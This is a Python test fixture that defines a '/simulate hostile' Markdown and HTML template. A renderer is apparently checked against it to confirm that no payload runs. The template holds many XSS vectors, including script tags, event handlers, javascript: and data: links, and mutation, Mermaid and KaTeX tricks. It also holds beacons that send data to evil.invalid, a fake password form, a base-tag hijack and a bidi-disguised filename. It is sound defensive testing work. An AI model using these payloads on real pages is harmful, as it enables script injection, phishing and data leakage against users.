"""`/simulate hostile`: what a page must never execute, fetch or be fooled by.

Every attempt that runs sets `window.pwned` or calls a host below `.invalid`, which tests and
people can look for.
"""

_TEMPLATE = r"""# Everything here must stay harmless

If any of this runs, `window.pwned` is set.

<script>window.pwned = "script tag"</script>
<img src=x onerror="window.pwned = 'onerror'">
<svg onload="window.pwned = 'svg'"><script>window.pwned = "svg script"</script></svg>
<iframe srcdoc="<script>parent.pwned = 'srcdoc'</script>"></iframe>
<iframe src="javascript:parent.pwned='frame'"></iframe>
<object data="data:text/html,<script>parent.pwned='object'</script>"></object>
<embed src="javascript:window.pwned='embed'">
<body onload="window.pwned = 'body'">
<details open ontoggle="window.pwned = 'toggle'"><summary>open</summary></details>
<input autofocus onfocus="window.pwned = 'focus'">
<video><source onerror="window.pwned = 'video'"></video>
<math><mtext><table><mglyph><style><img src=x onerror="window.pwned='mutation'"></style></mglyph></table></mtext></math>
<a href="javascript:window.pwned='anchor'">a link</a>
<a href="https://evil.invalid" target="_blank" onclick="window.pwned='click'">another link</a>

[a Markdown link](javascript:window.pwned='markdown')
[with an entity](&#106;avascript:window.pwned='entity')
[with a tab](java	script:window.pwned='tab')
[as data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)
[as vbscript](vbscript:msgbox("pwned"))
[a disguised address](https://claude.ai@evil.invalid/login)
<javascript:window.pwned='autolink'>

![beacon](https://evil.invalid/beacon.gif?leak=conversation)
<img src="https://evil.invalid/pixel.png" width="1" height="1" alt="">
<link rel="stylesheet" href="https://evil.invalid/style.css">
<style>body { background: url(https://evil.invalid/css-leak); display: none }</style>
<p style="position:fixed;inset:0;z-index:99999;background:red">covers the page</p>
<form action="https://evil.invalid/phish"><input name="password" type="password"><button>Sign in again</button></form>
<base href="https://evil.invalid/">
<meta http-equiv="refresh" content="0;url=https://evil.invalid/">
<div id="composer" name="cookie">clobbers ids and names</div>
<textarea></textarea></article></main></body>

```html
<script>window.pwned = "code block"</script>
```

```"><img src=x onerror="window.pwned='fence label'">
the label of this fence is hostile
```

```mermaid
flowchart LR
  A["<img src=x onerror='window.pwned=1'>"] --> B
  click A href "javascript:window.pwned='mermaid'"
```

\[ \href{javascript:window.pwned='katex'}{x} \class{evil}{y} \]

| <img src=x onerror="window.pwned='table'"> | b |
| --- | --- |
| `<script>window.pwned="cell"</script>` | [x](javascript:window.pwned='cell') |

Invisible order of letters: {bidi}elif.exe{end}, zero{nothing}width, and a template
{{ constructor.constructor('window.pwned=1')() }} ${7*7}.
"""  # noqa: E501

# Written as escapes: control characters must not hide in source code either.
HOSTILE = _TEMPLATE
for _name, _character in (("bidi", "\u202e"), ("end", "\u202c"), ("nothing", "\u200b")):
    HOSTILE = HOSTILE.replace(f"{{{_name}}}", _character)
